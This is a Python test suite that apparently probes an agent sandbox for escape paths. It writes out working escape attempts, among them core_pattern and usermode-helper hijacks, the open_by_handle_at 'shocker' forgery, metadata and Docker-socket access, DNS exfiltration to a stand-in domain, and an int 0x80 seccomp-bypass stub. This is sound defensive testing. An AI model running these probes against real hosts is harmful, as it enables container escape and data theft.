# AgentNest escape-attack probes. Runs inside a sandbox as an ordinary, hostile program:
#   python3 probes.py PROBE_ID [ARGS_JSON]
# Each probe tries one attack and prints exactly one verdict line:
#   AGENTNEST-VERDICT {"through": true|false, "detail": "...", "data": {...}}
# "through" means the attack got what it wanted. The host judges the verdict (and, for some
# probes, checks of its own); this file never decides what is acceptable on which backend.
# Standard library only; every loop is bounded.
import ctypes
import errno
import json
import os
import platform
import socket
import stat
import struct
import sys
import time

PROBES = {}


def probe(name):
    def register(fn):
        PROBES[name] = fn
        return fn

    return register


def verdict(through, detail, **data):
    line = {"through": bool(through), "detail": str(detail)[:2000]}
    if data:
        line["data"] = data
    print("AGENTNEST-VERDICT " + json.dumps(line, sort_keys=True))


def err_name(e):
    return errno.errorcode.get(e, str(e))


# ----------------------------------------------------------------------------- raw syscalls

X86_64 = {
    "init_module": 175, "finit_module": 313, "delete_module": 176, "kexec_load": 246,
    "kexec_file_load": 320, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323,
    "keyctl": 250, "add_key": 248, "io_uring_setup": 425, "open_by_handle_at": 304,
    "name_to_handle_at": 303, "setns": 308, "unshare": 272, "mount": 165, "ptrace": 101,
    "setuid": 105, "reboot": 169, "syslog": 103, "fsopen": 430, "open_tree": 428,
    "pivot_root": 155, "chroot": 161, "iopl": 172, "swapon": 167,
    "pidfd_open": 434, "pidfd_getfd": 438, "process_madvise": 440,
}
AARCH64 = {
    "init_module": 105, "finit_module": 273, "delete_module": 106, "kexec_load": 104,
    "kexec_file_load": 294, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282,
    "keyctl": 219, "add_key": 217, "io_uring_setup": 425, "open_by_handle_at": 265,
    "name_to_handle_at": 264, "setns": 268, "unshare": 97, "mount": 40, "ptrace": 117,
    "setuid": 146, "reboot": 142, "syslog": 116, "fsopen": 430, "open_tree": 428,
    "pivot_root": 41, "chroot": 51, "swapon": 224,
    "pidfd_open": 434, "pidfd_getfd": 438, "process_madvise": 440,
}
NUMBERS = AARCH64 if platform.machine() in ("aarch64", "arm64") else X86_64
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long

# errno values that mean "the gate said no" (capabilities, seccomp, LSM, or not implemented).
REFUSED = {errno.EPERM, errno.EACCES, errno.ENOSYS, errno.EROFS}


def syscall(name, *args):
    """(return value, errno) of a raw system call; args are ints, bytes or ctypes objects."""
    conv = []
    for a in args:
        if isinstance(a, int):
            conv.append(ctypes.c_long(a))
        elif isinstance(a, bytes):
            conv.append(ctypes.c_char_p(a))
        else:
            conv.append(a)
    ctypes.set_errno(0)
    ret = LIBC.syscall(ctypes.c_long(NUMBERS[name]), *conv)
    return ret, (ctypes.get_errno() if ret < 0 else 0)


def syscall_probe(name, *args, refused=REFUSED):
    """Through when the call succeeded or failed for any reason other than being refused
    (EINVAL or EFAULT on bogus arguments means the call itself was reachable)."""
    ret, e = syscall(name, *args)
    if ret >= 0:
        return True, "%s returned %d" % (name, ret)
    if e in refused:
        return False, "%s refused: %s" % (name, err_name(e))
    return True, "%s was reachable (it failed with %s, not a refusal)" % (name, err_name(e))


def try_open(path, flags=os.O_RDONLY):
    try:
        fd = os.open(path, flags | os.O_NONBLOCK | os.O_CLOEXEC)
    except OSError as e:
        return None, err_name(e.errno)
    return fd, None


def status_field(name):
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith(name + ":"):
                return line.split(":", 1)[1].strip()
    return ""


# -------------------------------------------------------------------------------- privilege


@probe("privilege.running-as-root")
def running_as_root(args):
    ids = os.getresuid() + os.getresgid()
    return verdict(0 in ids, "uid/gid (real, effective, saved) = %s" % (ids,))


@probe("privilege.setuid-binaries")
def setuid_binaries(args):
    found = []
    for top in ("/usr", "/bin", "/sbin", "/opt"):
        for dirpath, dirnames, filenames in os.walk(top):
            for n in filenames:
                p = os.path.join(dirpath, n)
                try:
                    st = os.lstat(p)
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode) and st.st_mode & (stat.S_ISUID | stat.S_ISGID):
                    found.append(p)
                if len(found) > 100:
                    break
    LIBC.prctl.restype = ctypes.c_int
    nnp = str(LIBC.prctl(39, 0, 0, 0, 0))  # PR_GET_NO_NEW_PRIVS (gVisor has no status field)
    # With no_new_privs a setuid bit is ignored at exec: prove it with the first one found.
    gained = False
    tried = ""
    for p in found[:3]:
        # 'su' and friends read nothing from us; the question is only whether euid changed,
        # which they reveal through /proc while running: start and inspect.
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                devnull = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(p, [p, "--help"])
            finally:
                os._exit(127)
        euid = None
        for _ in range(50):
            try:
                with open("/proc/%d/status" % pid) as f:
                    for line in f:
                        if line.startswith("Uid:"):
                            euid = int(line.split()[2])
                if euid is not None and euid == 0:
                    gained = True
            except OSError:
                pass
            done, _ = os.waitpid(pid, os.WNOHANG)
            if done:
                break
            time.sleep(0.01)
        else:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
        tried += " %s(euid seen %s)" % (os.path.basename(p), euid)
    return verdict(
        nnp != "1" or gained,
        "NoNewPrivs=%s; %d setuid/setgid files; exec:%s" % (nnp, len(found), tried or " none"),
        files=found[:20],
    )


@probe("privilege.capabilities")
def capabilities(args):
    caps = {k: status_field(k) for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}
    held = {k: v for k, v in caps.items() if v and int(v, 16) != 0}
    return verdict(bool(held), "capability sets: %s" % caps, held=held)


@probe("privilege.no-new-privs")
def no_new_privs(args):
    PR_GET_NO_NEW_PRIVS = 39
    LIBC.prctl.restype = ctypes.c_int
    v = LIBC.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
    return verdict(v != 1, "prctl(PR_GET_NO_NEW_PRIVS) = %d" % v)


@probe("privilege.setuid-syscall")
def setuid_syscall(args):
    through, detail = syscall_probe("setuid", 0, refused={errno.EPERM})
    return verdict(through or os.geteuid() == 0, detail)


@probe("privilege.rootfs-write")
def rootfs_write(args):
    wrote = []
    for p in ("/etc/passwd", "/usr/bin/python3", "/etc/ld.so.preload", "/usr/lib/evil.so"):
        fd, e = try_open(p, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
        if fd is not None:
            os.close(fd)
            wrote.append(p)
    return verdict(bool(wrote), "writable system files: %s" % (wrote or "none"))


# ---------------------------------------------------------------------- namespaces and mounts


@probe("namespaces.mount")
def mount_tmpfs(args):
    os.makedirs("/tmp/probe-mnt", exist_ok=True)
    through, detail = syscall_probe("mount", b"none", b"/tmp/probe-mnt", b"tmpfs", 0, 0)
    through2, detail2 = syscall_probe("fsopen", b"tmpfs", 0)
    return verdict(through or through2, detail + "; " + detail2)


@probe("namespaces.unshare")
def unshare(args):
    CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000
    out = []
    through = False
    for flag, name in ((CLONE_NEWUSER, "user"), (CLONE_NEWNS, "mount"), (CLONE_NEWNET, "net")):
        pid = os.fork()
        if pid == 0:
            ret, e = syscall("unshare", flag)
            os._exit(0 if ret == 0 else (e or 1) & 0xFF)
        _, status = os.waitpid(pid, 0)
        code = os.waitstatus_to_exitcode(status)
        if code == 0:
            through = True
            out.append("%s: created" % name)
        else:
            out.append("%s: %s" % (name, err_name(code)))
    return verdict(through, "unshare " + ", ".join(out))


@probe("namespaces.setns")
def setns(args):
    out = []
    through = False
    for ns in ("mnt", "net", "pid", "user"):
        fd, e = try_open("/proc/1/ns/" + ns)
        if fd is None:
            out.append("%s: open %s" % (ns, e))
            continue
        t, d = syscall_probe("setns", fd, 0, refused={errno.EPERM, errno.EACCES, errno.ENOSYS})
        os.close(fd)
        # setns into our own namespace may legitimately answer EINVAL; only success counts.
        ret_ok = d.endswith("returned 0")
        through = through or ret_ok
        out.append("%s: %s" % (ns, d))
    return verdict(through, "; ".join(out))


@probe("namespaces.proc1-root")
def proc1_root(args):
    try:
        a = os.stat("/proc/1/root/")
    except OSError as e:
        return verdict(False, "/proc/1/root not reachable: %s" % err_name(e.errno))
    b = os.stat("/")
    same = (a.st_dev, a.st_ino) == (b.st_dev, b.st_ino)
    pid1 = open("/proc/1/cmdline", "rb").read(200).replace(b"\0", b" ").decode("utf-8", "replace")
    return verdict(not same, "pid 1 is %r; /proc/1/root is %s root" % (pid1, "our own" if same else "ANOTHER"))


@probe("namespaces.cgroup-release-agent")
def cgroup_release_agent(args):
    writable = []
    checked = 0
    for dirpath, dirnames, filenames in os.walk("/sys/fs/cgroup"):
        for n in ("release_agent", "notify_on_release", "cgroup.procs"):
            if n in filenames:
                checked += 1
                fd, e = try_open(os.path.join(dirpath, n), os.O_WRONLY)
                if fd is not None:
                    os.close(fd)
                    writable.append(os.path.join(dirpath, n))
        if checked > 200:
            break
    t, d = syscall_probe("mount", b"cgroup", b"/tmp", b"cgroup", 0, b"rdma")
    return verdict(
        bool([w for w in writable if w.endswith("release_agent")]) or t,
        "writable cgroup control files: %s; mount cgroup: %s" % (writable[:5] or "none", d),
    )


def write_attempt(path, content=b"x"):
    fd, e = try_open(path, os.O_WRONLY)
    if fd is None:
        return False, "%s: %s" % (path, e)
    try:
        os.write(fd, content)
        return True, "%s: WRITTEN" % path
    except OSError as ex:
        return ex.errno not in REFUSED, "%s: write %s" % (path, err_name(ex.errno))
    finally:
        os.close(fd)


@probe("namespaces.core-pattern")
def core_pattern(args):
    t, d = write_attempt("/proc/sys/kernel/core_pattern", b"|/tmp/evil")
    return verdict(t, d)


@probe("namespaces.sysrq")
def sysrq(args):
    # 'h' only prints help to the kernel log: harmless if it ever got through.
    t, d = write_attempt("/proc/sysrq-trigger", b"h")
    t2, d2 = write_attempt("/proc/sys/kernel/sysrq", b"1")
    return verdict(t or t2, d + "; " + d2)


@probe("namespaces.usermode-helpers")
def usermode_helpers(args):
    out = []
    through = False
    for p in ("/proc/sys/kernel/modprobe", "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register",
              "/proc/sys/kernel/hotplug"):
        t, d = write_attempt(p, b"/tmp/evil")
        through = through or t
        out.append(d)
    return verdict(through, "; ".join(out))


@probe("namespaces.host-processes")
def host_processes(args):
    names = []
    for p in os.listdir("/proc")[:5000]:
        if p.isdigit():
            try:
                names.append(open("/proc/%s/comm" % p).read().strip())
            except OSError:
                pass
    host = [n for n in names if n in ("dockerd", "containerd", "java", "systemd", "sshd", "kthreadd", "runsc-sandbox")]
    # The marker comes reversed, so this probe's own command line does not contain it.
    marker = args.get("marker", "")[::-1]
    seen = False
    if marker:
        for p in os.listdir("/proc")[:5000]:
            if p.isdigit():
                try:
                    if marker.encode() in open("/proc/%s/cmdline" % p, "rb").read(4096):
                        seen = True
                except OSError:
                    pass
    return verdict(bool(host) or seen,
                   "%d processes visible; host processes: %s; other sandbox's marker seen: %s"
                   % (len(names), host or "none", seen))


# ----------------------------------------------------------------------------------- devices


@probe("devices.kmsg")
def kmsg(args):
    fd, e = try_open("/dev/kmsg")
    if fd is not None:
        os.close(fd)
        return verdict(True, "/dev/kmsg opened")
    t, d = syscall_probe("syslog", 3, ctypes.create_string_buffer(256), 256)
    return verdict(t, "/dev/kmsg: %s; syslog(READ_ALL): %s" % (e, d))


@probe("devices.memory")
def devmem(args):
    out = []
    through = False
    for p in ("/dev/mem", "/dev/kmem", "/dev/port"):
        fd, e = try_open(p)
        if fd is not None:
            os.close(fd)
            through = True
            out.append(p + ": OPENED")
        else:
            out.append("%s: %s" % (p, e))
    t, d = syscall_probe("iopl", 3) if "iopl" in NUMBERS else (False, "iopl: not on this arch")
    return verdict(through or t, "; ".join(out) + "; " + d)


@probe("devices.mknod")
def mknod(args):
    out = []
    through = False
    for name, dev in (("mem", os.makedev(1, 1)), ("sda", os.makedev(8, 0))):
        p = "/tmp/probe-" + name
        try:
            os.mknod(p, 0o600 | (stat.S_IFCHR if name == "mem" else stat.S_IFBLK), dev)
        except OSError as e:
            out.append("mknod %s: %s" % (name, err_name(e.errno)))
            continue
        # Created (some runtimes allow it); what matters is that it cannot be opened.
        fd, e = try_open(p)
        os.unlink(p)
        if fd is not None:
            os.close(fd)
            through = True
            out.append("mknod %s: created AND OPENED" % name)
        else:
            out.append("mknod %s: created, open %s" % (name, e))
    return verdict(through, "; ".join(out))


@probe("devices.block-devices")
def block_devices(args):
    found = []
    for d in ("/dev", "/dev/disk", "/dev/mapper"):
        try:
            for n in os.listdir(d)[:500]:
                p = os.path.join(d, n)
                try:
                    st = os.lstat(p)
                except OSError:
                    continue
                if stat.S_ISBLK(st.st_mode):
                    found.append(p)
        except OSError:
            pass
    opened = []
    for p in found:
        fd, e = try_open(p)
        if fd is not None:
            os.close(fd)
            opened.append(p)
    return verdict(bool(opened), "block devices: %s; opened: %s" % (found or "none", opened or "none"))


@probe("devices.host-devices")
def host_devices(args):
    out = []
    through = False
    for p in ("/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/vhost-net", "/dev/dri/card0", "/dev/vsock", "/dev/nvidia0"):
        fd, e = try_open(p, os.O_RDWR)
        if fd is not None:
            os.close(fd)
            through = True
            out.append(p + ": OPENED")
    return verdict(through, "host devices opened: %s" % (out or "none"))


# --------------------------------------------------------------------------- kernel interfaces


@probe("kernel.module-loading")
def module_loading(args):
    t1, d1 = syscall_probe("init_module", b"\0" * 64, 64, b"")
    fd = os.open("/dev/null", os.O_RDONLY)
    t2, d2 = syscall_probe("finit_module", fd, b"", 0)
    os.close(fd)
    return verdict(t1 or t2, d1 + "; " + d2)


@probe("kernel.kexec")
def kexec(args):
    t1, d1 = syscall_probe("kexec_load", 0, 0, 0, 0)
    t2, d2 = syscall_probe("kexec_file_load", -1, -1, 0, b"", 0)
    t3, d3 = syscall_probe("reboot", 0xFEE1DEAD, 672274793, 0x45584543, 0)
    return verdict(t1 or t2 or t3, "; ".join((d1, d2, d3)))


@probe("kernel.bpf")
def bpf(args):
    # BPF_PROG_LOAD of a two-instruction socket filter: "r0 = 0; exit".
    insns = struct.pack("<BBhi", 0xB7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)
    ibuf = ctypes.create_string_buffer(insns)
    lic = ctypes.create_string_buffer(b"GPL")
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("<IIQQ", attr, 0, 1, 2, ctypes.addressof(ibuf), ctypes.addressof(lic))
    through, detail = syscall_probe("bpf", 5, attr, 128)
    return verdict(through, detail)


@probe("kernel.perf-event-open")
def perf_event_open(args):
    attr = ctypes.create_string_buffer(128)
    struct.pack_into("<II", attr, 0, 1, 128)  # PERF_TYPE_SOFTWARE, size; config 0 = cpu clock
    through, detail = syscall_probe("perf_event_open", attr, 0, -1, -1, 0)
    return verdict(through, detail)


@probe("kernel.userfaultfd")
def userfaultfd(args):
    t1, d1 = syscall_probe("userfaultfd", os.O_CLOEXEC)
    t2, d2 = syscall_probe("userfaultfd", os.O_CLOEXEC | 1)  # UFFD_USER_MODE_ONLY
    return verdict(t1 or t2, d1 + "; user-mode only: " + d2)


@probe("kernel.keyctl")
def keyctl(args):
    t1, d1 = syscall_probe("add_key", b"user", b"probe", b"payload", 7, -3)  # session keyring
    t2, d2 = syscall_probe("keyctl", 0, -3, 0)  # KEYCTL_GET_KEYRING_ID
    return verdict(t1 or t2, d1 + "; " + d2)


@probe("kernel.io-uring")
def io_uring(args):
    params = ctypes.create_string_buffer(120)
    through, detail = syscall_probe("io_uring_setup", 4, params)
    return verdict(through, detail)


@probe("kernel.open-by-handle-at")
def open_by_handle_at(args):
    # The "shocker" attack: a forged handle for inode 2 (the root of the host filesystem).
    handle = ctypes.create_string_buffer(8 + 8)
    struct.pack_into("<Ii", handle, 0, 8, 1)
    struct.pack_into("<Q", handle, 8, 2)
    fd = os.open("/", os.O_RDONLY)
    t1, d1 = syscall_probe("open_by_handle_at", fd, handle, 0, refused=REFUSED | {errno.ESTALE})
    os.close(fd)
    return verdict(t1, d1)


@probe("kernel.ptrace")
def ptrace(args):
    # Attaching to pid 1 (the container's init): blocked by seccomp here.
    t, d = syscall_probe("ptrace", 16, 1, 0, 0)  # PTRACE_ATTACH
    if t and d.endswith("returned 0"):
        syscall("ptrace", 17, 1, 0, 0)  # PTRACE_DETACH
    return verdict(t, d)


# ------------------------------------------------------------------------- host information


@probe("host-info.kcore")
def kcore(args):
    fd, e = try_open("/proc/kcore")
    if fd is None:
        return verdict(False, "/proc/kcore: %s" % e)
    try:
        data = os.read(fd, 64)
    except OSError as ex:
        return verdict(False, "/proc/kcore opened but read %s" % err_name(ex.errno))
    finally:
        os.close(fd)
    return verdict(len(data) > 0 and data[:4] == b"\x7fELF", "/proc/kcore read %d bytes" % len(data))


@probe("host-info.kallsyms")
def kallsyms(args):
    fd, e = try_open("/proc/kallsyms")
    if fd is None:
        return verdict(False, "/proc/kallsyms: %s" % e)
    with os.fdopen(fd, "r", errors="replace") as f:
        lines = []
        for i, line in enumerate(f):
            if i >= 2000:
                break
            lines.append(line)
    real = [l for l in lines if l.split(" ", 1)[0].strip("0")]
    return verdict(bool(real), "%d symbols read, %d with a real address" % (len(lines), len(real)),
                   sample=real[:2])


@probe("host-info.firmware-and-debugfs")
def firmware(args):
    found = []
    for d in ("/sys/firmware", "/sys/kernel/debug", "/sys/kernel/security", "/sys/class/dmi/id", "/sys/kernel/tracing"):
        try:
            entries = os.listdir(d)
        except OSError:
            continue
        if entries:
            found.append("%s (%d entries)" % (d, len(entries)))
    readable = []
    for p in ("/sys/class/dmi/id/product_uuid", "/sys/class/dmi/id/board_serial", "/sys/firmware/acpi/tables/DSDT",
              "/proc/sched_debug", "/proc/timer_list", "/proc/keys"):
        fd, e = try_open(p)
        if fd is not None:
            try:
                if os.read(fd, 16):
                    readable.append(p)
            except OSError:
                pass
            os.close(fd)
    return verdict(bool(readable) or bool(found), "listable: %s; readable: %s" % (found or "none", readable or "none"))


@probe("host-info.docker-socket")
def docker_socket(args):
    found = []
    for p in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
              "/var/run/containerd/containerd.sock", "/run/podman/podman.sock", "/var/run/crio/crio.sock"):
        if os.path.exists(p):
            found.append(p)
    connected = []
    for p in found:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect(p)
            connected.append(p)
        except OSError:
            pass
        finally:
            s.close()
    return verdict(bool(found), "engine sockets present: %s; connected: %s" % (found or "none", connected or "none"))


@probe("host-info.environment")
def environment(args):
    # The host compares this with its own environment.
    return verdict(False, "%d variables" % len(os.environ), env=dict(os.environ))


@probe("host-info.mountinfo")
def mountinfo(args):
    mounts = []
    with open("/proc/self/mountinfo") as f:
        for i, line in enumerate(f):
            if i > 500:
                break
            pre, _, post = line.partition(" - ")
            f1 = pre.split()
            f2 = post.split()
            mounts.append({"root": f1[3], "point": f1[4], "fstype": f2[0] if f2 else "",
                           "source": f2[1] if len(f2) > 1 else "", "options": f2[2] if len(f2) > 2 else ""})
    return verdict(False, "%d mounts" % len(mounts), mounts=mounts)


# ----------------------------------------------------------------------------------- network


def tcp_attempt(host, port, family=socket.AF_INET, timeout=1.0):
    """'connected', 'refused' (a route exists) or the failure errno name."""
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((host, port))
        return "connected"
    except socket.timeout:
        return "timeout"
    except OSError as e:
        return "refused" if e.errno == errno.ECONNREFUSED else err_name(e.errno)
    finally:
        s.close()


def via_proxy(target, timeout=3.0):
    """Status line of a CONNECT through the sandbox's proxy, or why there is none."""
    proxy = os.environ.get("HTTPS_PROXY") or os.environ.get("https_proxy")
    if not proxy:
        return "no proxy"
    hostport = proxy.split("//", 1)[-1].rstrip("/")
    h, _, p = hostport.rpartition(":")
    s = socket.create_connection((h, int(p)), timeout=timeout)
    try:
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
        data = b""
        for _ in range(64):
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
            if b"\r\n" in data:
                break
        return data.split(b"\r\n", 1)[0].decode("latin-1")[:200]
    except OSError as e:
        return "proxy error " + err_name(e.errno)
    finally:
        s.close()


def proxy_passed(status):
    return status.startswith("HTTP/1.1 200") or status.startswith("HTTP/1.0 200")


def network_probe(targets, proxy_targets):
    out = []
    through = False
    for host, port, fam in targets:
        r = tcp_attempt(host, port, fam)
        out.append("%s:%d %s" % (host, port, r))
        through = through or r in ("connected", "refused")
    for t in proxy_targets:
        st = via_proxy(t)
        out.append("proxy CONNECT %s: %s" % (t, st))
        through = through or proxy_passed(st)
    return through, "; ".join(out)


@probe("network.metadata-service")
def metadata(args):
    t, d = network_probe([("169.254.169.254", 80, socket.AF_INET)],
                         ["169.254.169.254:80", "metadata.google.internal:80"])
    return verdict(t, d)


@probe("network.host-loopback")
def host_loopback(args):
    # The host listens on its loopback with a banner; the sandbox's own loopback has no such
    # listener, so only the banner proves the host was reached.
    port = int(args.get("host_port", 1))
    banner = args.get("banner", "AGENTNEST-HOST-LISTENER").encode()
    out = []
    through = False
    for host in ("127.0.0.1", "::1"):
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect((host, port))
            got = s.recv(64)
            if banner in got:
                through = True
                out.append("%s:%d HOST LISTENER ANSWERED" % (host, port))
            else:
                out.append("%s:%d connected to the sandbox's own loopback" % (host, port))
        except OSError as e:
            out.append("%s:%d %s" % (host, port, err_name(e.errno) if e.errno else type(e).__name__))
        finally:
            s.close()
    for t in ("127.0.0.1:%d" % port, "localhost:%d" % port, "[::1]:%d" % port, "2130706433:%d" % port,
              "0x7f.1:%d" % port, "[::ffff:127.0.0.1]:%d" % port):
        st = via_proxy(t)
        out.append("proxy CONNECT %s: %s" % (t, st))
        through = through or proxy_passed(st)
    return verdict(through, "; ".join(out))


@probe("network.docker-gateway")
def docker_gateway(args):
    gw = args.get("gateway", "172.17.0.1")
    t, d = network_probe([(gw, 2375, socket.AF_INET), (gw, 22, socket.AF_INET), (gw, 80, socket.AF_INET)],
                         ["%s:2375" % gw, "host.docker.internal:80"])
    return verdict(t, d)


@probe("network.other-sandboxes")
def other_sandboxes(args):
    out = []
    through = False
    name = args.get("abstract", "")
    if name:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(1)
        try:
            s.connect("\0" + name)
            through = True
            out.append("abstract socket of the other sandbox: CONNECTED")
        except OSError as e:
            out.append("abstract socket of the other sandbox: %s" % err_name(e.errno))
        finally:
            s.close()
    if os.path.exists(args.get("tmp_file", "/nonexistent")):
        through = True
        out.append("the other sandbox's /tmp file is visible")
    for i in range(2, 6):
        r = tcp_attempt("172.17.0.%d" % i, 80, timeout=0.5)
        out.append("172.17.0.%d:80 %s" % (i, r))
        through = through or r in ("connected", "refused")
    return verdict(through, "; ".join(out))


@probe("network.raw-sockets")
def raw_sockets(args):
    out = []
    through = False
    for fam, typ, proto, name in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw icmp"),
                                  (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW, "raw ip"),
                                  (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, "raw icmpv6"),
                                  (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, "ping socket")):
        try:
            s = socket.socket(fam, typ, proto)
        except OSError as e:
            out.append("%s: %s" % (name, err_name(e.errno)))
            continue
        # A socket may be creatable; it must still reach nothing.
        try:
            s.settimeout(0.5)
            s.sendto(b"\x08\0\xf7\xff\0\0\0\0", ("8.8.8.8" if fam == socket.AF_INET else "2001:4860:4860::8888", 0))
            through = True
            out.append("%s: created and SENT" % name)
        except OSError as e:
            out.append("%s: created, send %s" % (name, err_name(e.errno)))
        finally:
            s.close()
    return verdict(through, "; ".join(out))


@probe("network.packet-sockets")
def packet_sockets(args):
    out = []
    through = False
    for fam, name in ((17, "AF_PACKET"), (16, "AF_NETLINK route"), (40, "AF_VSOCK"), (38, "AF_ALG")):
        try:
            s = socket.socket(fam, socket.SOCK_RAW if fam != 40 else socket.SOCK_STREAM, 0)
            s.close()
            # netlink route sockets are harmless by themselves but our profile refuses them.
            through = True
            out.append("%s: CREATED" % name)
        except OSError as e:
            out.append("%s: %s" % (name, err_name(e.errno)))
    return verdict(through, "; ".join(out))


@probe("network.ipv6")
def ipv6(args):
    t, d = network_probe([("2001:4860:4860::8888", 443, socket.AF_INET6), ("fe80::1", 80, socket.AF_INET6),
                          ("::ffff:169.254.169.254", 80, socket.AF_INET6)],
                         ["[2001:4860:4860::8888]:443", "[::ffff:127.0.0.1]:80", "[fd00:ec2::254]:80"])
    return verdict(t, d)


@probe("network.dns-exfiltration")
def dns_exfiltration(args):
    label = args.get("label", "exfil")
    name = "%s.agentnest-exfil.example" % label
    out = []
    through = False
    try:
        addrs = socket.getaddrinfo(name, 443)
        through = True
        out.append("getaddrinfo answered: %s" % addrs[:1])
    except socket.gaierror as e:
        out.append("getaddrinfo: %s" % e.strerror)
    servers = ["8.8.8.8", "1.1.1.1", "127.0.0.11"]
    try:
        for line in open("/etc/resolv.conf").read(4096).splitlines():
            if line.startswith("nameserver"):
                servers.append(line.split()[1])
    except OSError:
        pass
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
        bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x01\x00\x01"
    for srv in servers[:6]:
        fam = socket.AF_INET6 if ":" in srv else socket.AF_INET
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.settimeout(0.5)
        try:
            s.sendto(query, (srv, 53))
            try:
                s.recvfrom(512)
                through = True
                out.append("%s answered" % srv)
            except (socket.timeout, OSError) as e:
                out.append("%s: sent, no answer" % srv)
        except OSError as e:
            out.append("%s: %s" % (srv, err_name(e.errno)))
        finally:
            s.close()
    st = via_proxy(name + ":443")
    out.append("proxy CONNECT %s: %s" % (name, st))
    through = through or proxy_passed(st)
    return verdict(through, "; ".join(out), name=name)


# ------------------------------------------------------------- the 32-bit ABI (int 0x80), x32
#
# A 64-bit x86 process can enter the kernel's i386 system call table with `int 0x80`, and (where
# the kernel has it) the x32 table with numbers ORed with 0x40000000. A seccomp profile that lists
# those ABIs applies rules written for 64-bit numbers; the i386 socketcall(2) and ipc(2) hide the
# real call's arguments in memory. Every attempt runs in a forked child: a filter that refuses a
# foreign ABI kills the calling thread (SIGSYS), and a kernel without the ABI faults (SIGSEGV).

I386 = {
    "getpid": 20, "socketcall": 102, "socket": 359, "ipc": 117, "unshare": 310, "setns": 346,
    "mount": 21, "ptrace": 26, "keyctl": 288, "add_key": 286, "bpf": 357, "userfaultfd": 374,
    "perf_event_open": 336, "init_module": 128, "kexec_load": 283, "io_uring_setup": 425,
    "open_by_handle_at": 342, "pidfd_getfd": 438, "process_vm_readv": 347,
}
X32_BIT = 0x40000000
# push rbx; push rbp; eax=edi (nr); ebx=esi; ecx=edx; edx=ecx; esi=r8d; edi=r9d; int 0x80;
# pop rbp; pop rbx; rax = sign-extended eax; ret.  long stub(nr, a1, a2, a3, a4, a5)
INT80_STUB = bytes.fromhex("5355" "89f8" "89f3" "4189d2" "89ca" "4489d1" "4489c6" "4489cf" "cd80"
                           "5d5b" "4863c0" "c3")
SOCKET_FAMILIES = ((40, "AF_VSOCK", socket.SOCK_STREAM), (16, "AF_NETLINK", socket.SOCK_RAW),
                   (17, "AF_PACKET", socket.SOCK_RAW))


def is_x86_64():
    return platform.machine() in ("x86_64", "amd64")


def in_child(fn):
    """Runs fn() in a forked child; (result, None) or (None, why the child died)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            import signal
            signal.alarm(5)  # nothing here blocks; a hang must not hold the probe
            try:
                out = {"ok": fn()}
            except Exception as e:  # the attack could not even be set up: say why
                out = {"error": "%s: %s" % (type(e).__name__, e)}
            os.write(w, json.dumps(out).encode()[:4000])
        finally:
            os._exit(0)
    os.close(w)
    data = b""
    for _ in range(64):
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        sig = os.WTERMSIG(status)
        names = {31: "killed by SIGSYS (seccomp)", 11: "SIGSEGV (this kernel serves no such ABI)",
                 14: "timed out"}
        return None, names.get(sig, "killed by signal %d" % sig)
    if not data:
        return None, "child exited %d without an answer" % os.WEXITSTATUS(status)
    answer = json.loads(data.decode())
    if "error" in answer:
        return None, "could not try: " + answer["error"]
    return answer["ok"], None


def low_memory():
    """An executable page below 4 GiB (MAP_32BIT): the i386 ABI sees only 32-bit pointers."""
    LIBC.mmap.restype = ctypes.c_void_p
    LIBC.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                          ctypes.c_long]
    mem = LIBC.mmap(None, 4096, 7, 0x22 | 0x40, -1, 0)  # RWX, PRIVATE|ANONYMOUS|32BIT
    if mem is None or mem == ctypes.c_void_p(-1).value or mem >= 1 << 32:
        raise OSError(ctypes.get_errno(), "no executable memory below 4 GiB")
    return mem


def int80(nr, *args):
    """(return value, errno) of an i386 system call made with int 0x80 (run it in a child)."""
    mem = low_memory()
    ctypes.memmove(mem, INT80_STUB, len(INT80_STUB))
    fn = ctypes.CFUNCTYPE(ctypes.c_long, *([ctypes.c_long] * 6))(mem)
    a = list(args) + [0] * (5 - len(args))
    ret = fn(nr, *a)
    return (ret, 0) if ret >= 0 or ret < -4095 else (-1, -ret)


